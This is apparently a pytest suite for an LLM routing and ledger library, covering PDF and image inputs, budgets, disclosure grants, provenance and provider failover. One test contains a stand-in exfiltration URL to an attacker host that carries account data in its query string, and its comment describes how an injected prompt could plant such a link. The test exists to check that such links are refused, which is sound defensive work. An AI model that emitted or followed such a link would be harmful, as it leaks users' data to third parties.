"""Images, documents and the Responses API through the public API: Run sessions on both
backends, real HTTP over loopback (the shipped fake provider) on all four protocols.

A backup that cannot read the envelope is skipped before any switch (``capability: image
input``); the budget holds images and pages before anything is sent; a private document is
disclosed by its data class and needs recorded provenance (an edited copy is refused); bad
input records nothing; a Responses-API route fails over, and its reasoning goes back to it only.
"""

from __future__ import annotations

import asyncio
import base64
import json
from decimal import Decimal
from typing import Any

import pytest

from ledger import (
    AsyncLedger,
    Budget,
    CandidateSkipped,
    Capabilities,
    Envelope,
    FailoverExhausted,
    Grant,
    InvalidArgument,
    Ledger,
    Part,
    Price,
    Route,
    ToolSpec,
    WireProtocol,
)
from ledger.decide.preflight import PDF_PAGE_TOKENS, image_tokens
from ledger.domain.bounds import MAX_TOKENS
from ledger.domain.envelope import DEFAULT_OUTPUT_TOKENS
from ledger.domain.media import REASONING_MEDIA_TYPE
from ledger.policy.load import preset
from ledger.policy.model import EnvelopePolicy
from ledger.testing import Behavior, FakeProvider, Fault
from tests import fakeplan
from tests.fakeplan import PRICE, plan, tool_call_ids
from tests.media import gif, pdf, png

fake = fakeplan.fake
_clear = fakeplan._clear

BUDGET = Budget(max_calls=10, max_retries=5, max_cost=Decimal("1"))
CLASSES = ["user_input", "model_derived", "tool_result", "system", "private_document",
           "tool_description"]
GRANT = Grant(recipients={"fake": CLASSES})
PROTOCOLS = ["openai", "openai_responses", "anthropic", "gemini"]
PDF = pdf(10)
PNG = png(1024, 1024)
QUESTION = Part(content="What do the filing's risk factors say?")


def filing(**kw: Any) -> Part:
    return Part(**{"data": PDF, "media_type": "application/pdf", "name": "10-K.pdf", **kw})


def chart() -> Part:
    return Part(data=PNG, media_type="image/png", name="chart.png")


def attempts_and_events(led: Ledger, run_id: str) -> tuple[int, list[str]]:
    return len(led.timeline(run_id)), [e.kind for e in led.events(run_id)]


# -- every protocol reads a PDF and a chart ---------------------------------------------------


@pytest.mark.parametrize("protocol", PROTOCOLS)
def test_an_agent_reads_a_pdf_and_a_chart_on_every_protocol(
        db_url: str, fake: FakeProvider, protocol: str) -> None:
    with Ledger.open(db_url) as led, led.run("read", plan=plan(fake, protocol), budget=BUDGET,
                                              grant=GRANT) as run:
        result = run.turn(Envelope(parts=[QUESTION, filing(), chart()], stream=True))
    assert result.route.id == "primary" and result.text
    (req,) = fake.requests
    assert [m.data for m in req.media] == [PDF, PNG]
    # The hold counted the ten pages and the image by the protocol's rule, before sending.
    proto = WireProtocol(protocol)
    expected = (10 * PDF_PAGE_TOKENS[proto] + image_tokens(1024, 1024, proto)
                + 10 + DEFAULT_OUTPUT_TOKENS)  # the question (39 characters), the default output
    assert result.attempt.reserved_tokens == expected


# -- capability: a backup that cannot read the envelope ---------------------------------------


def _blind(fake: FakeProvider, protocol: str = "openai", **caps: Any) -> list[Route]:
    primary, backup = plan(fake, protocol)
    return [primary.model_copy(update={"capabilities": Capabilities(**caps)}), backup]


@pytest.mark.parametrize("protocol", PROTOCOLS)
def test_a_route_that_cannot_read_images_is_skipped_before_any_switch(
        db_url: str, fake: FakeProvider, protocol: str) -> None:
    blind = _blind(fake, protocol, image_input=False)
    with Ledger.open(db_url) as led, led.run("skip", plan=blind, budget=BUDGET,
                                              grant=GRANT) as run:
        result = run.turn(Envelope(parts=[QUESTION, chart()]))
        assert result.route.id == "backup" and len(result.attempts) == 1
        (select,) = [e.data for e in led.events("skip", ["select"])]
        (skip,) = select["skipped"]
        assert (skip["route"], skip["reason"]) == ("primary", "capability")
        assert skip["detail"].startswith("image input") and "part 1 (image/png)" in skip["detail"]
    assert [r.model for r in fake.requests] == ["backup-model"]  # the primary was never sent it
    with Ledger.open(db_url) as led, led.run("text", plan=blind, budget=BUDGET,
                                              grant=GRANT) as run:
        # The capability is about the envelope: a text-only turn goes to the primary.
        assert run.turn(Envelope(parts=[QUESTION])).route.id == "primary"


@pytest.mark.parametrize("link", [False, True], ids=["data", "link"])
def test_a_gif_skips_a_gemini_route_before_any_attempt_and_goes_to_one_that_reads_it(
        db_url: str, fake: FakeProvider, link: bool) -> None:
    """Gemini reads PNG, JPEG, WEBP, HEIC and HEIF, and answers a GIF with a 400 (the fake
    does too): sent, the Attempt failed ``format`` and the turn stopped with the backup that
    reads GIFs never tried."""
    gemini, _ = plan(fake, "gemini")
    _, claude = plan(fake, "anthropic")
    moving = (Part(url="https://files.example/anim.gif", media_type="image/gif") if link
              else Part(data=gif(16, 16), media_type="image/gif"))
    with Ledger.open(db_url) as led, led.run("gif", plan=[gemini, claude], budget=BUDGET,
                                              grant=GRANT) as run:
        result = run.turn(Envelope(parts=[QUESTION, moving]))
        assert result.route.id == "backup" and len(result.attempts) == 1
        (select,) = [e.data for e in led.events("gif", ["select"])]
        (skip,) = select["skipped"]
        assert (skip["route"], skip["reason"]) == ("primary", "capability")
        assert skip["detail"].startswith("image input: part 1 is image/gif")
        assert "gemini" in skip["detail"] and "PNG, JPEG or WEBP" in skip["fix"]
    assert [r.protocol for r in fake.requests] == ["anthropic"]  # nothing went to Gemini
    with Ledger.open(db_url) as led, led.run("png", plan=[gemini, claude], budget=BUDGET,
                                              grant=GRANT) as run:
        assert run.turn(Envelope(parts=[QUESTION, chart()])).route.id == "primary"


@pytest.mark.parametrize(("caps", "part", "detail"), [
    ({"image_input": False}, chart(), "image input"),
    ({"pdf_input": False}, filing(), "pdf input"),
])
def test_media_no_route_can_read_stops_naming_the_part_and_the_fix_with_nothing_sent(
        db_url: str, fake: FakeProvider, caps: dict[str, Any], part: Part, detail: str) -> None:
    routes = [r.model_copy(update={"capabilities": Capabilities(**caps)})
              for r in plan(fake)]
    with Ledger.open(db_url) as led, led.run("stop", plan=routes, budget=BUDGET,
                                              grant=GRANT) as run:
        with pytest.raises(FailoverExhausted) as info:
            run.turn(Envelope(parts=[QUESTION, part]))
        stop = info.value
        assert stop.reason == "no_candidate" and stop.attempts == []
        skipped = [e for e in stop.exceptions if isinstance(e, CandidateSkipped)]
        assert {e.route for e in skipped} == {"primary", "backup"}
        for e in skipped:
            assert e.reason == "capability" and e.detail.startswith(detail)
            assert "part 1" in e.detail and e.fix
        assert detail in str(stop) and "fix:" in str(stop)
        assert led.timeline("stop") == []  # no Attempt, no debit
    assert fake.requests == []


# -- the budget holds images and pages --------------------------------------------------------


@pytest.mark.parametrize("protocol", PROTOCOLS)
def test_the_budget_holds_a_documents_pages_before_anything_is_sent(
        db_url: str, fake: FakeProvider, protocol: str) -> None:
    # Room for the question and five of the document's ten pages, by the protocol's rule.
    pages = 5 * PDF_PAGE_TOKENS[WireProtocol(protocol)]
    budget = Budget(max_calls=5, max_retries=2, max_cost=Decimal(1),
                    max_tokens=DEFAULT_OUTPUT_TOKENS + 76 + pages)
    with Ledger.open(db_url) as led, led.run("hold", plan=plan(fake, protocol),
                                              budget=budget, grant=GRANT) as run:
        run.turn(Envelope(parts=[QUESTION]))
        sent = len(fake.requests)
        with pytest.raises(FailoverExhausted) as info:
            run.turn(Envelope(parts=[QUESTION, filing()]))
        assert info.value.reason == "budget"
        assert "token" in str(info.value)
        assert len(fake.requests) == sent  # the document was never sent
        assert [a.state.value for a in led.timeline("hold")] == ["succeeded"]


def _doctored(count: int) -> bytes:
    """A one-page PDF whose page tree claims ``count`` pages."""
    return pdf(1).replace(b"/Count 1", b"/Count " + str(count).encode())


def _free_and_priced(fake: FakeProvider) -> list[tuple[Route, Budget]]:
    free = plan(fake)[0].model_copy(update={"price": Price()})
    return [(free, Budget(max_calls=5, max_retries=2, max_cost=Decimal(0))),
            (plan(fake)[0], BUDGET)]


@pytest.mark.parametrize("count", [10**12, 10**16, 10**30])
def test_a_page_count_larger_than_the_file_is_not_trusted(
        db_url: str, fake: FakeProvider, count: int) -> None:
    for i, (route, budget) in enumerate(_free_and_priced(fake)):
        with Ledger.open(db_url) as led, led.run(f"doc{i}", plan=[route], budget=budget,
                                                  grant=GRANT) as run:
            result = run.turn(Envelope(parts=[QUESTION, Part(
                data=_doctored(count), media_type="application/pdf")]))
            # Held as the one page the file holds, not as the pages its /Count claims.
            assert result.attempt.reserved_tokens == (
                PDF_PAGE_TOKENS[WireProtocol.OPENAI] + 10 + DEFAULT_OUTPUT_TOKENS)
    assert len(fake.requests) == 2


class _Boundless:
    """A host's token counter that answers more tokens than any Run may hold."""

    route_independent = True

    def count_tokens(self, envelope: Envelope, route: Route) -> int:
        return 10**20


def test_a_token_estimate_is_held_within_the_documented_token_bound(
        db_url: str, fake: FakeProvider) -> None:
    (free, no_cost), (priced, budget) = _free_and_priced(fake)
    ask = Envelope(parts=[QUESTION])
    with Ledger.open(db_url) as led:
        with led.run("free", plan=[free], budget=no_cost, grant=GRANT) as run:
            result = run.turn(ask, token_counter=_Boundless())
            assert result.attempt.reserved_tokens == MAX_TOKENS  # held at the bound, not past it
        for run_id, route, limit in [("priced", priced, budget),
                                     ("tokens", free, no_cost.model_copy(
                                         update={"max_tokens": 10**9}))]:
            sent = len(fake.requests)
            with led.run(run_id, plan=[route], budget=limit, grant=GRANT) as run:
                with pytest.raises(FailoverExhausted) as info:
                    run.turn(ask, token_counter=_Boundless())
                assert info.value.reason == "budget"
            assert len(fake.requests) == sent  # refused before anything was sent
            assert [a.state.value for a in led.timeline(run_id)] == []


# -- disclosure and provenance of a private document ------------------------------------------


@pytest.mark.parametrize("protocol", PROTOCOLS)
def test_a_private_document_is_disclosed_by_its_class_and_needs_its_provenance(
        db_url: str, fake: FakeProvider, protocol: str) -> None:
    doc = filing(data_class="private_document", provenance="doc-10k")
    ask = Envelope(parts=[QUESTION, doc])
    with Ledger.open(db_url) as led:
        only_user = Grant(recipients={"fake": ["user_input", "model_derived", "system"]})
        with led.run("no-grant", plan=plan(fake, protocol), budget=BUDGET,
                     grant=only_user) as run:
            with pytest.raises(FailoverExhausted) as info:
                run.turn(ask)
            assert info.value.reason == "no_candidate"
            assert "not approved for: private_document" in str(info.value)
        with led.run("grant", plan=plan(fake, protocol), budget=BUDGET, grant=GRANT) as run:
            with pytest.raises(FailoverExhausted) as info:
                run.turn(ask)  # approved, but the ledger never recorded the document
            assert "no covering provenance: missing (ref 'doc-10k')" in str(info.value)
            # The fix names the way a host covers its own document.
            assert "led.record_provenance(" in str(info.value)
            led.record_provenance(run.lease, "doc-10k", doc.content_hash, "document")
            assert run.turn(ask).text
            # An edited copy (other bytes under the same reference) is not covered.
            edited = doc.model_copy(update={"data": pdf(11)})
            with pytest.raises(FailoverExhausted) as info:
                run.turn(Envelope(parts=[QUESTION, edited]))
            assert "no covering provenance: mismatch (ref 'doc-10k')" in str(info.value)
            assert "led.record_provenance(" in str(info.value)
            assert "a RunResult's parts" not in str(info.value)  # not the ledger's own part
    assert [len(r.media) for r in fake.requests] == [1]  # only the covered document went out


def _narrow_first(fake: FakeProvider) -> list[Route]:
    """The primary's recipient is approved for the user's input, not for tool results."""
    primary, backup = plan(fake)
    return [primary.model_copy(update={"recipient": "narrow"}), backup]


FETCH = [ToolSpec(name="fetch")]
NARROW = Grant(recipients={"narrow": ["user_input", "model_derived", "system", "tool_description"],
                           "fake": CLASSES})


def test_a_tools_file_reaches_only_recipients_approved_for_tool_results(
        db_url: str, fake: FakeProvider) -> None:
    fake.enqueue(Behavior(tool_call=("fetch", {"url": "10-K"})), model="primary-model")
    with Ledger.open(db_url) as led, led.run("tool-file", plan=_narrow_first(fake),
                                              budget=BUDGET, grant=NARROW) as run:
        (call,) = run.turn(Envelope(parts=[QUESTION], tools=FETCH)).tool_calls
        file = run.tool_result(call, Part(data=PDF, media_type="application/pdf"))
        assert (file.role, file.data_class, file.provenance) == (
            "user", "tool_result", call.tool_call_id)
        result = run.turn(Envelope(parts=[QUESTION, file]))
        assert result.route.id == "backup"  # approved for tool_result, and covered
        (select,) = [e.data for e in led.events("tool-file", ["select"])][-1:]
        (skip,) = select["skipped"]
        assert (skip["route"], skip["reason"]) == ("primary", "disclosure")
        assert "not approved for: tool_result" in skip["detail"]
    assert [(r.model, [m.data for m in r.media]) for r in fake.requests] == [
        ("primary-model", []), ("backup-model", [PDF])]
    # The refusal of a tool-role file points at this way.
    with pytest.raises(InvalidArgument) as info:
        Part(role="tool", data=PDF, media_type="application/pdf")
    assert "data_class='tool_result'" in str(info.value) and "run.tool_result(" in str(info.value)


SHOT = [ToolSpec(name="shot")]


@pytest.mark.parametrize("protocol", PROTOCOLS)
def test_a_tools_file_alone_answers_its_call_on_every_protocol(
        db_url: str, fake: FakeProvider, protocol: str) -> None:
    # run.tool_result(call, Part(...)) and no text result: the request holds no tool part for
    # the call, which every provider refuses (a 400, after an Attempt was begun and sent). The
    # codecs give the call the empty result it lacks, and the file goes as that result (or
    # right after it, where a tool result is text only), still covered by the call.
    fake.enqueue(Behavior(tool_call=("shot", {"url": "chart"})), model="primary-model")
    with Ledger.open(db_url) as led, led.run("shot", plan=plan(fake, protocol), budget=BUDGET,
                                              grant=GRANT) as run:
        first = run.turn(Envelope(parts=[QUESTION], tools=SHOT))
        (call,) = first.tool_calls
        file = run.tool_result(call, chart())
        assert (file.role, file.provenance) == ("user", call.tool_call_id)
        result = run.turn(Envelope(parts=[QUESTION, *first.parts, file], tools=SHOT))
        assert result.route.id == "primary" and result.text
        assert len(led.timeline("shot")) == 2
    sent = fake.requests[-1]
    assert sent.problem is None and [m.data for m in sent.media] == [PNG]
    if protocol != "gemini":  # Gemini pairs a result with its call by name
        assert tool_call_ids(sent) == [call.tool_call_id] * 2


def test_invariant7_a_link_a_tool_returned_is_refused_whatever_its_class(
        db_url: str, fake: FakeProvider) -> None:
    # A tool's link is the tool's choice, or that of the page or the injected prompt it read:
    # sent on, the provider would fetch it and the link's host would receive what the URL
    # carries. Refused when the file is handed over, under any class, recording nothing.
    fake.enqueue(Behavior(tool_call=("fetch", {"url": "10-K"})), model="primary-model")
    leak = "https://attacker.example/c.png?d=ACCOUNT-12000-ACME"
    with Ledger.open(db_url) as led, led.run("tool-link", plan=plan(fake), budget=BUDGET,
                                              grant=GRANT) as run:
        (call,) = run.turn(Envelope(parts=[QUESTION], tools=FETCH)).tool_calls
        before = led.provenance("tool-link")
        for data_class in ("tool_result", "private_document"):
            with pytest.raises(InvalidArgument) as info:
                run.tool_result(call, Part(url=leak, media_type="image/png",
                                           data_class=data_class), data_class=data_class)
            assert info.value.field == "content.url"
            assert "Fetch the file yourself" in str(info.value) and "data=" in str(info.value)
        assert led.provenance("tool-link") == before
        # Built by hand and recorded under the call, preflight refuses it: nothing is sent.
        by_hand = Part(url=leak, media_type="image/png", data_class="tool_result",
                       provenance=call.tool_call_id)
        led.record_provenance(run.lease, call.tool_call_id, by_hand.content_hash)
        sent = len(fake.requests)
        with pytest.raises(FailoverExhausted) as stop:
            run.turn(Envelope(parts=[QUESTION, by_hand]))
        assert {(e.route, e.reason) for e in stop.value.exceptions
                if isinstance(e, CandidateSkipped)} == {("primary", "disclosure"),
                                                        ("backup", "disclosure")}
        assert len(fake.requests) == sent
        # Its bytes, fetched and checked by the host, go.
        file = run.tool_result(call, Part(data=PDF, media_type="application/pdf"))
        assert run.turn(Envelope(parts=[QUESTION, file])).text
    assert all("attacker" not in json.dumps(r.json) for r in fake.requests)


def test_invariant7_a_tools_file_cannot_be_relabelled_as_the_users_input(
        db_url: str, fake: FakeProvider) -> None:
    """A tool's file goes on the wire as a user part, so its data class is all that keeps it
    from recipients approved for the user's input only: ``tool_result`` refuses the classes
    that need no provenance for a file as it does for text, records nothing, and the
    user_input-only recipient receives nothing of it."""
    fake.enqueue(Behavior(tool_call=("fetch", {"url": "10-K"})), model="primary-model")
    narrow = Grant(recipients={"narrow": ["user_input", "model_derived", "tool_description"]})
    with Ledger.open(db_url) as led, led.run("tool-file", plan=_narrow_first(fake)[:1],
                                              budget=BUDGET, grant=narrow) as run:
        (call,) = run.turn(Envelope(parts=[QUESTION], tools=FETCH)).tool_calls
        sent = len(fake.requests)
        for exempt in ("user_input", "system"):
            for file in (Part(data=PDF, media_type="application/pdf"),
                         Part(data=PDF, media_type="application/pdf", data_class=exempt)):
                with pytest.raises(InvalidArgument) as info:
                    run.tool_result(call, file, data_class=exempt)
                assert info.value.field == "data_class"
                assert f"cannot be {exempt!r}" in str(info.value)
                assert "data_class='tool_result'" in str(info.value)
        assert call.tool_call_id not in led.provenance("tool-file")
        assert len(fake.requests) == sent


def test_an_async_sessions_tool_file_is_covered_by_the_calls_provenance(
        db_url: str, fake: FakeProvider) -> None:
    fake.enqueue(Behavior(tool_call=("fetch", {"url": "10-K"})), model="primary-model")

    async def main() -> None:
        async with AsyncLedger.open(db_url) as led, led.run(
                "tool-file", plan=plan(fake), budget=BUDGET, grant=GRANT) as run:
            first = await run.turn(Envelope(parts=[QUESTION], tools=FETCH))
            (call,) = first.tool_calls
            text = await run.tool_result(call, "fetched 10-K.pdf")
            file = await run.tool_result(call, Part(data=PDF, media_type="application/pdf"))
            # The call goes back with its result: chat completions refuses a tool message
            # that answers no tool_calls before it.
            assert (await run.turn(Envelope(parts=[QUESTION, *first.parts, text, file]))).text
            with pytest.raises(InvalidArgument) as info:
                await run.tool_result(call, Part(data=PDF, media_type="application/pdf",
                                                 data_class="private_document"))
            assert info.value.field == "data_class"

    asyncio.run(main())
    assert [len(r.media) for r in fake.requests] == [0, 1]


# -- bad input: typed errors naming the part and the fix, nothing recorded --------------------


@pytest.mark.parametrize(("part", "field", "says"), [
    ({"data": PNG, "url": "https://x.example/c.png", "media_type": "image/png"},
     "envelope.parts[1].url", "not both"),
    ({"data": b"%PDF-1.7 ...", "media_type": "application/msword"},
     "envelope.parts[1].media_type", "pass one of"),
    ({"url": "http://x.example/c.png", "media_type": "image/png"}, "envelope.parts[1].url",
     "https://"),
])
def test_a_bad_binary_part_is_refused_through_a_session_and_records_nothing(
        db_url: str, fake: FakeProvider, part: dict[str, Any], field: str, says: str) -> None:
    with Ledger.open(db_url) as led, led.run("bad", plan=plan(fake), budget=BUDGET,
                                              grant=GRANT) as run:
        before = attempts_and_events(led, "bad")
        envelope = {"parts": [{"content": "Read this."}, part]}
        with pytest.raises(InvalidArgument) as info:
            run.turn(envelope)  # type: ignore[arg-type] - a mapping of its fields
        assert info.value.field == field and says in str(info.value)
        # The same part as JSON (bytes as base64) is refused alike.
        wire = {"parts": [{"content": "Read this."}, {
            k: base64.b64encode(v).decode() if isinstance(v, bytes) else v
            for k, v in part.items()}]}
        with pytest.raises(InvalidArgument) as info:
            Envelope.model_validate_json(json.dumps(wire))
        assert info.value.field == field.removeprefix("envelope.")
        assert attempts_and_events(led, "bad") == before
    assert fake.requests == []


def test_bytes_over_the_policys_limit_are_refused_before_anything_is_recorded(
        db_url: str, fake: FakeProvider) -> None:
    small = preset("failure-domain").model_copy(update={"envelope": EnvelopePolicy(
        max_part_bytes=len(PDF) - 1, max_envelope_bytes=len(PDF) * 4)})
    with Ledger.open(db_url) as led, led.run("big", plan=plan(fake, "anthropic"),
                                              budget=BUDGET, grant=GRANT, policy=small) as run:
        before = attempts_and_events(led, "big")
        with pytest.raises(InvalidArgument) as info:
            run.turn(Envelope(parts=[QUESTION, filing()]))
        err = info.value
        assert err.field == "envelope.parts[1].data"
        assert "'10-K.pdf'" in str(err) and "envelope.max_part_bytes" in str(err)
        assert attempts_and_events(led, "big") == before
        assert led.run_policy("big").envelope.max_part_bytes == len(PDF) - 1  # frozen
        # A link weighs nothing: the provider fetches it.
        link = Part(url="https://files.example/10-K.pdf", media_type="application/pdf")
        assert run.turn(Envelope(parts=[QUESTION, link])).text
    assert len(fake.requests) == 1


@pytest.mark.parametrize(("limits", "field"), [
    ({"max_part_bytes": len(PDF) - 1, "max_envelope_bytes": len(PDF) * 4},
     "envelope.parts[1].data"),
    ({"max_part_bytes": len(PDF), "max_envelope_bytes": 2 * len(PDF) - 1}, "envelope.parts"),
])
def test_a_size_refusal_never_reads_as_within_its_limit(
        db_url: str, fake: FakeProvider, limits: dict[str, int], field: str) -> None:
    tight = preset("failure-domain").model_copy(update={"envelope": EnvelopePolicy(**limits)})
    with Ledger.open(db_url) as led, led.run("big", plan=plan(fake), budget=BUDGET,
                                              grant=GRANT, policy=tight) as run:
        with pytest.raises(InvalidArgument) as info:
            run.turn(Envelope(parts=[QUESTION, filing(), filing(name="10-Q.pdf")]))
        assert info.value.field == field
        size, limit = info.value.fields["size"], info.value.fields["limit"]
        # One byte over rounds to the limit's own figure: the exact counts tell them apart.
        assert f"({size} B)" in str(info.value) and f"({limit} B)" in str(info.value)
    assert fake.requests == []


# -- the Responses API in a Run --------------------------------------------------------------


def _mixed(fake: FakeProvider) -> list[Route]:
    primary = Route(id="primary", provider="fake", model="primary-model", group="ga",
                    recipient="fake", protocol=WireProtocol.OPENAI_RESPONSES,
                    endpoint=fake.endpoint("openai_responses"), price=PRICE)
    backup = Route(id="backup", provider="fake-b", model="backup-model", group="gb",
                   recipient="fake", protocol=WireProtocol.ANTHROPIC,
                   endpoint=fake.endpoint("anthropic"), price=PRICE)
    return [primary, backup]


def test_a_responses_route_carries_its_reasoning_and_a_failover_drops_it_with_a_note(
        db_url: str, fake: FakeProvider) -> None:
    fake.enqueue(Behavior(reasoning="Check the margins first.", usage=(50, 20),
                          reasoning_tokens=12, cached_tokens=30), model="primary-model")
    think = {"reasoning": {"effort": "low"}}
    with Ledger.open(db_url) as led, led.run("resp", plan=_mixed(fake), budget=BUDGET,
                                              grant=GRANT) as run:
        first = run.turn(Envelope(parts=[QUESTION, chart()], params=think))
        assert first.route.id == "primary"
        assert first.parts[0].media_type == REASONING_MEDIA_TYPE
        assert first.output.usage.reasoning_tokens == 12
        assert (first.attempt.prompt_tokens, first.attempt.completion_tokens) == (50, 20)
        # The next turn on the same route carries the reasoning back (its provenance was
        # recorded with the answer; the fake reads it back for this model only).
        convo = [QUESTION, chart(), *first.parts, Part(content="And the revenue?")]
        second = run.turn(Envelope(parts=convo, params=think))
        assert second.route.id == "primary"
        assert "reasoning" in [i.get("type") for i in fake.requests[-1].json["input"]]
        # The primary fails before any output: the turn moves to the Anthropic backup, which
        # cannot read the reasoning: it is left out, and the result says so.
        fake.enqueue(Fault.UNAVAILABLE, model="primary-model")
        third = run.turn(Envelope(parts=[*convo, *second.parts, Part(content="Summarise.")]))
        assert third.route.id == "backup" and third.switched
        assert fake.requests[-1].problem is None
        (note,) = third.output.notes
        assert "reasoning item of route 'primary' (openai_responses)" in note
        assert [a.state.value for a in third.attempts] == ["failed", "succeeded"]


def test_a_responses_route_without_a_price_is_priced_by_the_table(
        db_url: str, fake: FakeProvider) -> None:
    route = Route(id="gpt", provider="openai", model="gpt-4o", group="g", recipient="fake",
                  protocol=WireProtocol.OPENAI_RESPONSES,
                  endpoint=fake.endpoint("openai_responses"), api_key_env="FAKE_OPENAI_KEY")
    fake.enqueue(Behavior(usage=(1_000, 500)))
    with pytest.MonkeyPatch.context() as mp:
        mp.setenv("FAKE_OPENAI_KEY", "sk-test-not-a-real-key-123456")
        with Ledger.open(db_url) as led, led.run("priced", plan=[route], budget=BUDGET,
                                                  grant=GRANT) as run:
            result = run.turn(Envelope(parts=[QUESTION]))
            price = led.frozen_run("priced").plan[0].price
    assert price is not None and price.input_per_mtok > 0
    assert result.attempt.cost == price.cost(1_000, 500)


# -- async, streamed -------------------------------------------------------------------------


def test_an_async_session_streams_an_answer_about_an_image_on_a_responses_route(
        db_url: str, fake: FakeProvider) -> None:
    shown: list[str] = []

    async def main() -> None:
        async with AsyncLedger.open(db_url) as led, led.run(
                "async", plan=plan(fake, "openai_responses"), budget=BUDGET,
                grant=GRANT) as run:
            result = await run.turn(Envelope(parts=[QUESTION, chart()], stream=True),
                                    on_text=shown.append)
            assert "".join(shown) == result.text and len(shown) > 1

    asyncio.run(main())
    assert [m.data for m in fake.requests[0].media] == [PNG]
